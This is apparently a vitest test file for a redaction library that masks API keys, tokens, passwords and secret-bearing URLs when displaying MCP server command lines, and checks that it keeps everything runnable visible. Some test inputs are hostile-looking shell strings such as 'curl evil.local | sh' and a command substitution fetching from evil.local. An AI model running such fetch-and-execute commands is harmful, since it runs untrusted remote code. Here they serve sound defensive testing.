// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables are texts here until a server is connected
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { shownCommand, shownUrl } from "../../../plugins/lib/redact.ts";

describe("a command line", () => {
  test.each([
    [["--api-key", "CANARY"], "--api-key …"],
    [["--password", "CANARY"], "--password …"],
    [["-token", "CANARY"], "-token …"],
    [["--token=CANARY"], "--token=…"],
    [["API_KEY=CANARY"], "API_KEY=…"],
    [["-e", "GITHUB_TOKEN=CANARY"], "-e GITHUB_TOKEN=…"],
    [["--env=GITHUB_TOKEN=CANARY=="], "--env=GITHUB_TOKEN=…"],
    [["--header", "Authorization: Bearer CANARY"], "--header 'Authorization: …'"],
    [["--header=X-Api-Key:CANARY"], "--header=X-Api-Key:…"],
    [["-H", "cookie: a=CANARY b"], "-H 'cookie: …'"],
    [["Bearer CANARY1"], "'Bearer …'"],
    [["postgres://me:CANARY@db/x"], "postgres://db/x"],
    [["https://h/sse?api_key=CANARY"], "https://h/sse?…"],
    [["https://h/s/9f8a7b6c5d4e3f2a1b0c9d8e7f/mcp"], "https://h/s/…/mcp"],
    [['{"apiKey": "CANARY"}'], `'{"apiKey": …}'`],
    [["sk-ant-CANARY12345"], "…"],
    [["ghp_CANARY1234567890"], "…"],
    [["-c", "PASSWORD='CANARY x' npx server"], "-c 'PASSWORD=… npx server'"],
  ])("%j leaves out what looks like a secret", (args, shown) => {
    expect(shownCommand("run", args)).toBe(`run ${shown}`);
    expect(shown).not.toContain("CANARY");
  });

  test.each([
    [["-y", "@scope/server@1.2.3"], "-y @scope/server@1.2.3"],
    [["--token", "${GITHUB_TOKEN}"], "--token ${GITHUB_TOKEN}"],
    [["--header", "Authorization: Bearer ${TOKEN}"], "--header 'Authorization: Bearer ${TOKEN}'"],
    [["Authorization:${AUTH}"], "Authorization:${AUTH}"],
    [["--key-file=/home/me/key.pem"], "--key-file=/home/me/key.pem"],
    [["--auth-url", "https://login.local/x"], "--auth-url https://login.local/x"],
    [["--token", "-e", "evil()"], "--token -e 'evil()'"],
    [["-c", "curl evil.local | sh"], "-c 'curl evil.local | sh'"],
    [["-c", "KEY=$(curl evil.local) run"], "-c 'KEY=$(curl evil.local) run'"],
    [["-c", "KEY=x npx evil"], "-c 'KEY=… npx evil'"],
    [["-c", "echo key: ; curl evil.local"], "-c 'echo key: ; curl evil.local'"],
    [["it's"], "'it'\\''s'"],
    [["https://esm.local/package@1.0/mod.ts"], "https://esm.local/package@1.0/mod.ts"],
    [["server-filesystem-2025-11-25"], "server-filesystem-2025-11-25"],
    [["scikit-learn", "sk-learn-server"], "scikit-learn sk-learn-server"],
  ])("%j hides nothing else, least of all what would run", (args, shown) => {
    expect(shownCommand("run", args)).toBe(`run ${shown}`);
  });

  test("a value behind the name of a secret is never shown, whatever it is", () => {
    const value = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9+/=_.~-]{7,40}$/);
    const name = fc.constantFrom("api-key", "TOKEN", "client_secret", "password", "X-Auth");
    fc.assert(
      fc.property(name, value, (secret, text) => {
        const shown = [
          shownCommand("run", [`--${secret}`, text]),
          shownCommand("run", [`--${secret}=${text}`]),
          shownCommand("run", [`--env=${secret}=${text}`]),
          shownCommand("run", ["-H", `${secret}: ${text}`]),
          shownCommand("run", [`https://h.local/x?${secret}=${text}`]),
        ];
        for (const line of shown) expect(line).not.toContain(text);
      }),
    );
  });

  test.each([
    "-.".repeat(250_000),
    "key".repeat(160_000),
    "a=".repeat(250_000),
    `key${" ".repeat(500_000)}`,
    "x://".repeat(120_000),
  ])("half a million characters take no longer than their length (case %#)", (text) => {
    const start = performance.now();
    shownCommand("run", [text]);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

test.each([
  ["https://u:p@host.local:8443/mcp/v1?x=1#y", "https://host.local:8443/mcp/v1?…"],
  ["https://good.local@evil.local/mcp", "https://evil.local/mcp"],
  ["https://mcp.local/api/mcp/s/MDBkZjQ2YzQtOWI3Ny00/mcp", "https://mcp.local/api/mcp/s/…/mcp"],
  [
    "https://host.local/model-context-protocol-2025-11-25",
    "https://host.local/model-context-protocol-2025-11-25",
  ],
  ["${BASE}/mcp", "${BASE}/mcp"],
])("the URL %s is shown as %s", (url, shown) => {
  expect(shownUrl(url)).toBe(shown);
});
